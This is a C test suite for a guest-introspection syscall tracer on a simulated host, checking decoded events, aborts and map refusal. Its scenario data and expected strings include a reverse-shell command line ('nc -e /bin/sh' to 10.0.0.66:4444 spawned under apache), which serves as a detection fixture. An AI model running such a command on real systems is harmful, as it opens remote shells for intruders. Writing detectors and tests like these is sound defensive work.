// SPDX-License-Identifier: GPL-2.0-only
/*
 * Guest introspection end to end on the simulated host: a scenario makes the guest do
 * exact calls, and the events domtrace reports must say exactly that (strings, flags,
 * addresses, ids, ancestry, return values), also for strings on pages that are not
 * present; aborts must really stop the call; the seed's example filters must produce
 * the events the seed describes; a map that does not fit is refused, guest untouched.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "support/check_run.h"
#include "support/harness.h"

#define WAIT_MS 20000

static void expect_line(struct dt_harness *h, const char *what, const char *n1, const char *n2,
			const char *n3, const char *n4)
{
	char *line = dt_harness_wait_line(h, WAIT_MS, n1, n2 ? n2 : n1, n3 ? n3 : n1, n4 ? n4 : n1,
					  NULL);

	ck_assert_msg(line != NULL, "no event: %s (%s %s %s %s)", what, n1, n2 ? n2 : "", n3 ? n3 : "",
		      n4 ? n4 : "");
	free(line);
}

static void wait_scenario(struct dt_harness *h)
{
	ck_assert_int_eq(dt_sim_scenario_wait(h->host, WAIT_MS), 0);
}

/* The seed manual's example filters, unchanged (config/examples/seed.conf). */
static const char seed_scenario[] =
	/* apache -> sh -> nc: name=^apache with regs:filename */
	"proc 700 comm=apache uid=33 gid=33\n"
	"proc 701 forked\n"
	"proc 702 forked\n"
	"700 call fork child=701 label=f1\n"
	"701 call execve \"/bin/sh\" [\"sh\", \"-c\", \"nc\"] [] label=sh\n"
	"701 call fork child=702 label=f2\n"
	"702 call execve np:\"/usr/bin/nc\" np:[\"nc\", \"-e\", \"/bin/sh\", \"10.0.0.66\", \"4444\"] [] label=nc\n"
	"702 call socket AF_INET SOCK_STREAM 0 label=s\n"
	"702 call connect $s inet:10.0.0.66:4444 16 label=conn\n"
	"701 call wait4 $f2 int:0 0 0 label=w2\n"
	"700 call wait4 $f1 int:0 0 0 label=w1\n"
	/* php-cgi may not exec; its waitpid that reaps a child */
	"proc 710 comm=php-cgi uid=33 gid=33\n"
	"proc 711 forked\n"
	"710 call execve \"/usr/bin/id\" [\"id\"] [] label=php-exec\n"
	"710 call fork child=711 label=php-fork\n"
	"711 exit 3\n"
	"710 call wait4 $php-fork int:0 0 0 label=php-wait\n"
	/* an apache that dies of SIGSEGV */
	"proc 720 comm=apache uid=33 gid=33\n"
	"720 segv\n"
	/* a server accepting a connection */
	"proc 730 comm=server uid=0 gid=0\n"
	"730 call socket AF_INET SOCK_STREAM 0 label=ls\n"
	"730 call bind $ls inet:0.0.0.0:8080 16 label=lb\n"
	"730 call listen $ls 16 label=ll\n"
	"730 call accept $ls buf:16 int:16 label=acc\n";

/*
 * The A3 strings of the seed's example filters, in the seed's field order: each
 * argument followed by its own decodings ("code=0xdeadbeef,code:signal=SIGSEGV,..."),
 * every field once; names kept for the ancestor's filters (regs:filename, call:call,
 * status:cause, ...) match but are not sent.
 */
static void check_seed_a3_strings(const char *report)
{
	static const char *const want[] = {
		/* Filter function=sys_execve,name=php-cgi,apply=1,retval=-1 */
		"domain=sim-vm0 type=abort retval=-1 pid=710 name=php-cgi ppid=1 sys_execve("
		"filename=/usr/bin/id,argv=[\"id\"],argv:argv=id,envp=[],envp:envp=,)",
		/* Filter function=sys_waitpid,name=php-cgi,when=post,retval=^[1-9] */
		"domain=sim-vm0 type=match when=post pid=710 name=php-cgi ppid=1 sys_wait4(upid=711,"
		"stat_addr=[{WIFEXITED(s) && WEXITSTATUS(s) == 3}],stat_addr:cause=exit,"
		"stat_addr:code=3,stat_addr:signal=,stat_addr:core=,options=0,ru=NULL,ret_value=711)",
		/* Filter function=do_exit,name=apache,argname=code:signal,argval=SEGV */
		"domain=sim-vm0 type=match when=pre pid=720 name=apache ppid=1 do_exit(code=0xb,"
		"code:cause=signal,code:status=,code:signal=SIGSEGV,code:core=0,)",
		/* Filter function=sys_execve,argname=regs:filename,argval=/usr/bin/nc,name=^apache */
		"domain=sim-vm0 type=match when=pre pid=702 name=sh ppid=701 sys_execve("
		"filename=/usr/bin/nc,argv=[\"nc\", \"-e\", \"/bin/sh\", \"10.0.0.66\", \"4444\"],"
		"argv:argv=nc -e /bin/sh 10.0.0.66 4444,envp=[],envp:envp=,)",
		/* Filter function=sys_socketcall,argname=call:call,argval=connect */
		"domain=sim-vm0 type=match when=pre pid=702 name=nc ppid=701 sys_connect(fd=3,"
		"uservaddr=AF_INET 10.0.0.66:4444,addrlen=16,)",
	};
	/* Filter function=sys_socketcall,argname=call:call,argval=accept,when=post (the
	 * peer's address is the simulator's choice) */
	static const char accept_head[] = "domain=sim-vm0 type=match when=post pid=730 name=server "
					  "ppid=1 sys_accept(fd=3,upeer_sockaddr=AF_INET ";
	static const char accept_tail[] = ",upeer_addrlen=[16],upeer_addrlen:len=16,ret_value=4)";
	unsigned seen[6] = { 0 }, events = 0, k;
	FILE *f = fopen(report, "r");
	char line[4096];

	ck_assert_ptr_nonnull(f);
	while (fgets(line, sizeof(line), f)) {
		char *s = strstr(line, ": domain=");
		size_t len;

		if (!s || line[0] == ' ' || !strstr(s, " type="))
			continue; /* a pid lineage line, or a notice (attached, ...) */
		s += 2;
		len = strlen(s);
		if (len && s[len - 1] == '\n')
			s[--len] = '\0';
		events++;
		for (k = 0; k < 5; k++)
			seen[k] += strcmp(s, want[k]) == 0;
		if (!strncmp(s, accept_head, strlen(accept_head)) && len > strlen(accept_tail) &&
		    !strcmp(s + len - strlen(accept_tail), accept_tail))
			seen[5]++;
		ck_assert_msg(!strstr(s, "regs:") && !strstr(s, "filename:filename") &&
				      !strstr(s, "call:call") && !strstr(s, "status:"),
			      "an alias was sent: %s", s);
	}
	fclose(f);
	for (k = 0; k < 6; k++)
		ck_assert_msg(seen[k] == 1, "A3 string %u seen %u times (want: %s)", k, seen[k],
			      k < 5 ? want[k] : accept_head);
	ck_assert_uint_eq(events, 6); /* each example filter met once */
}

START_TEST(seed_example_filters)
{
	char path[512], report[160];
	struct dt_harness h;
	struct dt_sim_call c;
	FILE *f;
	char conf[4096];
	size_t n;

	snprintf(path, sizeof(path), "%s/config/examples/seed.conf",
		 getenv("DT_SOURCE_DIR") ? getenv("DT_SOURCE_DIR") : DT_SOURCE_DIR_DEFAULT);
	f = fopen(path, "r");
	ck_assert_ptr_nonnull(f);
	n = fread(conf, 1, sizeof(conf) - 1, f);
	fclose(f);
	conf[n] = '\0';
	dt_harness_init(&h, 1);
	snprintf(report, sizeof(report), "%s/report.txt", h.dir);
	h.o.report_file = report; /* its entries are the A3 event strings */
	dt_harness_start(&h, conf, seed_scenario);
	wait_scenario(&h);

	/* Filter function=sys_execve,name=php-cgi,apply=1,retval=-1: aborted, the body
	 * never ran, the guest saw -1 */
	ck_assert_int_eq(dt_sim_call_wait(h.host, "php-exec", WAIT_MS, &c), 0);
	ck_assert_int_eq(c.ret, -1);
	ck_assert(!c.body_ran);
	expect_line(&h, "abort", "\"type\":\"abort\"", "\"func\":\"sys_execve\"", "\"filename\":\"/usr/bin/id\"",
		    "\"abort_ret\":-1");
	/* Filter function=sys_waitpid,name=php-cgi,when=post,retval=^[1-9] */
	ck_assert_int_eq(dt_sim_call_wait(h.host, "php-wait", WAIT_MS, &c), 0);
	ck_assert_int_gt(c.ret, 0);
	expect_line(&h, "waitpid post", "\"type\":\"match\"", "\"when\":\"post\"", "\"func\":\"sys_wait4\"",
		    "\"comm\":\"php-cgi\"");
	/* Filter function=do_exit,name=apache,argname=code:signal,argval=SEGV */
	expect_line(&h, "SEGV", "\"type\":\"match\"", "\"func\":\"do_exit\"", "\"code:signal\":\"SIGSEGV\"",
		    "\"pid\":720");
	/* Filter function=sys_execve,argname=regs:filename,argval=/usr/bin/nc,name=^apache:
	 * nc's strings were on pages not present at the call: still decoded */
	expect_line(&h, "nc under apache", "\"type\":\"match\"", "\"regs:filename\":\"/usr/bin/nc\"",
		    "\"regs:args\":\"nc -e /bin/sh 10.0.0.66 4444\"", "\"comm\":\"apache\"");
	/* Filter function=sys_socketcall,argname=call:call,argval=connect */
	expect_line(&h, "connect", "\"type\":\"match\"", "\"func\":\"sys_connect\"", "\"call:call\":\"connect\"",
		    "\"uservaddr\":\"AF_INET 10.0.0.66:4444\"");
	/* Filter function=sys_socketcall,argname=call:call,argval=accept,when=post */
	ck_assert_int_eq(dt_sim_call_wait(h.host, "acc", WAIT_MS, &c), 0);
	expect_line(&h, "accept post", "\"type\":\"match\"", "\"when\":\"post\"", "\"call:call\":\"accept\"",
		    "\"pid\":730");
	/* ProcessListNames apache,php-cgi,sh: pslist events of those processes only */
	expect_line(&h, "pslist", "\"type\":\"pslist\"", "\"comm\":\"apache\"", NULL, NULL);
	ck_assert_uint_eq(dt_harness_count_lines(&h, "\"type\":\"pslist\"", "\"comm\":\"systemd\"", NULL), 0);
	dt_harness_finish(&h);
	check_seed_a3_strings(report);
	dt_harness_free(&h);
}
END_TEST

/* The seed: "Each time a syscall from the set (sys_execve,sys_waitpid,sys_fork,
 * sys_vfork,sys_clone) is traced, we report a process list". At the call, with no
 * return probe added for it. */
START_TEST(pslist_on_waitpid)
{
	struct dt_harness h;
	char *line;

	dt_harness_init(&h, 1);
	h.o.returns = false; /* return probes only where something needs one */
	dt_harness_start(&h, "Functions sys_waitpid,sys_fork\nProcessListNames reaper\n",
			 "proc 900 comm=reaper uid=0 gid=0\n"
			 "proc 901 forked\n"
			 "900 call fork child=901 label=fk\n"
			 "901 exit 0\n"
			 "900 call wait4 $fk int:0 0 0 label=w\n");
	wait_scenario(&h);
	line = dt_harness_wait_line(&h, WAIT_MS, "\"func\":\"sys_wait4\"", "\"comm\":\"reaper\"", NULL);
	ck_assert_ptr_nonnull(line);
	free(line);
	dt_harness_finish(&h);
	/* one pslist for the fork, one for the wait, both from the reaper */
	ck_assert_uint_eq(dt_harness_count_lines(&h, "\"type\":\"pslist\"", "\"comm\":\"reaper\"",
						 "\"procs\":[", NULL),
			  2);
	/* no return probe was armed on wait4 for the pslist's sake (the guest's init may
	 * call wait4 too: no return of anyone's is reported) */
	ck_assert_uint_eq(dt_harness_count_lines(&h, "\"func\":\"sys_wait4\"", "\"when\":\"post\"", NULL), 0);
	ck_assert_uint_eq(dt_harness_count_lines(&h, "\"func\":\"sys_wait4\"", "\"when\":\"pre\"",
						 "\"comm\":\"reaper\"", NULL),
			  1);
	dt_harness_free(&h);
}
END_TEST

/* The text log quotes a guest string once: a buffer's decoder renders it quoted and
 * escaped already ("hi"), a path is quoted by the log. */
START_TEST(text_log_quotes_once)
{
	struct dt_harness h;
	char *line;

	dt_harness_init(&h, 1);
	h.o.format = DT_FORMAT_TEXT;
	dt_harness_start(&h, "Functions sys_write,sys_openat\n",
			 "proc 950 comm=writer uid=0 gid=0\n"
			 "950 call write 1 \"hi\" 2 label=w\n"
			 "950 call openat AT_FDCWD \"/etc/hosts\" O_RDONLY 0 label=o\n");
	wait_scenario(&h);
	line = dt_harness_wait_line(&h, WAIT_MS, "writer[950", "sys_write(", NULL);
	ck_assert_ptr_nonnull(line);
	ck_assert_msg(strstr(line, "sys_write(fd=1, buf=\"hi\", count=2) = 2 <") != NULL, "%s", line);
	free(line);
	line = dt_harness_wait_line(&h, WAIT_MS, "writer[950", "sys_openat(", NULL);
	ck_assert_ptr_nonnull(line);
	ck_assert_msg(strstr(line, "filename=\"/etc/hosts\", flags=O_RDONLY") != NULL, "%s", line);
	free(line);
	dt_harness_finish(&h);
	dt_harness_free(&h);
}
END_TEST

static const char families_scenario[] =
	"proc 800 comm=bash uid=1000 gid=1001 euid=0 egid=0\n"
	"proc 801 forked\n"
	"proc 802 forked\n"
	"800 call openat AT_FDCWD np:\"/etc/hosts\" O_RDONLY|O_CLOEXEC 0 label=open-np\n"
	"800 call openat AT_FDCWD \"/tmp/new\" O_WRONLY|O_CREAT|O_TRUNC 0640 label=open-creat\n"
	"800 call socket AF_INET6 SOCK_STREAM 0 label=s6\n"
	"800 call connect $s6 inet6:[2001:db8::1]:443 28 label=c6\n"
	"800 call socket AF_UNIX SOCK_STREAM 0 label=su\n"
	"800 call connect $su unix:/run/dbus/system_bus_socket 110 label=cu\n"
	"800 call fork child=801 label=fk1\n"
	"801 segv\n"
	"800 call wait4 $fk1 int:0 0 0 label=wsegv\n"
	"800 call fork child=802 label=fk2\n"
	"802 sleep 60000\n"
	"800 call kill $fk2 SIGTERM label=kill\n"
	"800 call wait4 $fk2 int:0 0 0 label=wterm\n"
	"proc 850 compat comm=legacy uid=0 gid=0\n"
	"850 call open np:\"/var/log/syslog\" O_WRONLY|O_APPEND 0 label=c-open\n"
	"850 call socketcall SYS_SOCKET ints:[2, 2, 0] label=c-socket\n"
	"850 call execve \"/usr/bin/id\" np:[\"id\", \"-u\"] [] label=c-exec\n";

START_TEST(syscall_families_decoded)
{
	struct dt_harness h;
	struct dt_sim_call c;

	dt_harness_init(&h, 1);
	dt_harness_start(&h, "Functions *\n", families_scenario);
	wait_scenario(&h);

	/* a path on a page that was not present at entry, flags, the returned fd */
	ck_assert_int_eq(dt_sim_call_wait(h.host, "open-np", WAIT_MS, &c), 0);
	expect_line(&h, "openat np", "\"func\":\"sys_openat\"", "\"filename\":\"/etc/hosts\"",
		    "\"flags\":\"O_RDONLY|O_CLOEXEC\"", "\"when\":\"post\"");
	expect_line(&h, "openat creat", "\"filename\":\"/tmp/new\"", "\"flags\":\"O_WRONLY|O_CREAT|O_TRUNC\"",
		    "\"mode\":\"0640\"", NULL);
	/* ids: real and effective */
	expect_line(&h, "ids", "\"pid\":800", "\"uid\":1000", "\"gid\":1001", "\"euid\":0");
	expect_line(&h, "connect inet6", "\"func\":\"sys_connect\"", "2001:db8::1", "443", NULL);
	expect_line(&h, "connect unix", "\"func\":\"sys_connect\"", "/run/dbus/system_bus_socket", NULL, NULL);
	/* exit by signal, seen at do_exit and in the parent's wait status */
	expect_line(&h, "do_exit SIGSEGV", "\"func\":\"do_exit\"", "\"pid\":801", "\"code:signal\":\"SIGSEGV\"",
		    NULL);
	expect_line(&h, "wait status", "\"func\":\"sys_wait4\"", "\"status:signal\":\"SIGSEGV\"", NULL, NULL);
	expect_line(&h, "kill", "\"func\":\"sys_kill\"", "\"sig\":\"SIGTERM\"", "\"ret\":0", NULL);
	expect_line(&h, "killed", "\"func\":\"do_exit\"", "\"pid\":802", "\"code:signal\":\"SIGTERM\"", NULL);
	/* a 32-bit process: i386 numbers, its socketcall, strings on absent pages */
	expect_line(&h, "compat open", "\"compat\":true", "\"func\":\"sys_open\"", "\"filename\":\"/var/log/syslog\"",
		    "\"flags\":\"O_WRONLY|O_APPEND\"");
	expect_line(&h, "compat socketcall", "\"compat\":true", "\"func\":\"sys_socketcall\"", "\"call:call\":\"socket\"",
		    NULL);
	expect_line(&h, "compat execve", "\"compat\":true", "\"func\":\"sys_execve\"", "\"regs:args\":\"id -u\"",
		    NULL);
	/* nothing decoded as the ancestor's "(null)" or left not present */
	ck_assert_uint_eq(dt_harness_count_lines(&h, "not present", NULL), 0);
	ck_assert_uint_eq(dt_harness_count_lines(&h, "(null)", NULL), 0);
	dt_harness_finish(&h);
	dt_harness_free(&h);
}
END_TEST

START_TEST(abort_and_would_abort)
{
	static const char scn[] = "proc 900 comm=php-cgi uid=33 gid=33\n"
				  "900 call openat AT_FDCWD \"/etc/hosts\" O_RDONLY 0 label=o1\n"
				  "900 await action-off\n"
				  "900 call openat AT_FDCWD \"/etc/hosts\" O_RDONLY 0 label=o2\n";
	struct dt_harness h;
	struct dt_sim_call c;

	dt_harness_init(&h, 1);
	dt_harness_start(&h,
			 "Functions openat\n"
			 "Filter function=openat, argname=filename, argval=hosts, apply=1, retval=-EACCES\n",
			 scn);
	ck_assert_int_eq(dt_sim_call_wait(h.host, "o1", WAIT_MS, &c), 0);
	ck_assert_int_eq(c.ret, -13);
	ck_assert(!c.body_ran);
	/* SIGUSR1's action: the bit off, the filter only reports */
	dt_daemon_set_action(h.d, false);
	ck_assert_int_eq(dt_sim_gate_open(h.host, "action-off"), 0); /* not a sleep: load-proof */
	ck_assert_int_eq(dt_sim_call_wait(h.host, "o2", WAIT_MS, &c), 0);
	ck_assert(c.body_ran);
	ck_assert_int_ge(c.ret, 0); /* the file opened */
	expect_line(&h, "abort", "\"type\":\"abort\"", "\"abort_ret\":-13", NULL, NULL);
	expect_line(&h, "would-abort", "\"type\":\"would-abort\"", "\"abort_ret\":-13", NULL, NULL);
	dt_harness_finish(&h);
	dt_harness_free(&h);
}
END_TEST

/* Copy a map, shifting every address: a map of "another build" of the same kernel. */
static void write_shifted_map(const char *from, const char *to, uint64_t shift)
{
	FILE *in = fopen(from, "r"), *out = fopen(to, "w");
	char line[1024], type, name[512];
	unsigned long long addr;

	ck_assert_ptr_nonnull(in);
	ck_assert_ptr_nonnull(out);
	while (fgets(line, sizeof(line), in))
		if (sscanf(line, "%llx %c %511s", &addr, &type, name) == 3)
			fprintf(out, "%016llx %c %s\n", addr + shift, type, name);
	fclose(in);
	fclose(out);
}

START_TEST(wrong_map_refused_guest_untouched)
{
	struct dt_sim_kernel_info k0, k1;
	struct dt_harness h;
	struct dt_trap_totals t;
	char shifted[256];

	dt_harness_init(&h, 2); /* VM 0 runs 6.1, VM 1 runs 6.6: different kernels */
	h.sp.workload = true;
	h.o.sysmap_dir = NULL;
	/* open the sim first to learn its map paths: start with no daemon config */
	ck_assert_int_eq(dt_hv_sim.open(&h.sp, &h.hv), 0);
	h.host = dt_sim_host_from(h.hv);
	ck_assert_int_eq(dt_sim_kernel_info(h.host, 1, &k0), 0);
	ck_assert_int_eq(dt_sim_kernel_info(h.host, 2, &k1), 0);
	dt_hv_sim.close(h.hv);
	h.hv = NULL;
	h.host = NULL;
	/* VM 0 gets VM 1's map, VM 1 a shifted copy of its own */
	snprintf(shifted, sizeof(shifted), "%s/System.map-shifted", h.dir);
	write_shifted_map(k1.sysmap_path, shifted, 0x1000);
	{
		char conf[1024];

		snprintf(conf, sizeof(conf), "Domain sim-vm0\nSystemMap %s\nDomain sim-vm1\nSystemMap %s\n",
			 k1.sysmap_path, shifted);
		dt_harness_start(&h, conf, NULL);
	}
	ck_assert_uint_eq(atomic_load(&h.d->stats.refused), 2);
	ck_assert_uint_eq(atomic_load(&h.d->stats.attached), 0);
	usleep(200000);
	dt_daemon_totals(h.d, &t);
	ck_assert_uint_eq(t.traps, 0);
	dt_harness_finish(&h); /* both kernels byte-identical, nothing paused, no crash */
	dt_harness_free(&h);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("introspect");
	TCase *tc = tcase_create("sim");

	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, seed_example_filters);
	tcase_add_test(tc, pslist_on_waitpid);
	tcase_add_test(tc, text_log_quotes_once);
	tcase_add_test(tc, syscall_families_decoded);
	tcase_add_test(tc, abort_and_would_abort);
	tcase_add_test(tc, wrong_map_refused_guest_untouched);
	suite_add_tcase(s, tc);
	return dt_check_run(s);
}
